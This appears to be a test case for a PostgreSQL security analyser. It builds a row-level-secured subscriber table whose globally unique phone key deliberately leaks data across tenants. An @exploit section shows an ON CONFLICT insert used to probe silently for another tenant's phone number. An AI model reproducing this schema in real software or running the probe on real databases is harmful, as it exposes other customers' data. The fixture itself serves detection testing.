-- title: a globally unique phone number can be probed silently with ON CONFLICT
-- kind: hole
-- expect: D02|D01
-- also: D01
-- object: sms.subscriber
-- logins: sms
-- proof: role=sms
create role sms_owner nologin;
create role sms login;
create schema sms authorization sms_owner;
grant usage on schema sms to sms;
set role sms_owner;
create table sms.subscriber (
  account text not null check (account <> ''),
  phone text primary key,
  since date not null default current_date
);
create index on sms.subscriber (account);
alter table sms.subscriber enable row level security;
alter table sms.subscriber force row level security;
create policy subscriber_account on sms.subscriber using (account = (select current_setting('sms.account', true)));
grant select, insert, update, delete on sms.subscriber to sms;
reset role;

-- @data
insert into sms.subscriber values ('b', '+491');
-- @exploit
select set_config('sms.account', 'a', true);
insert into sms.subscriber values ('a', '+491') on conflict do nothing;
select 1 where not exists (select from sms.subscriber where phone = '+491');
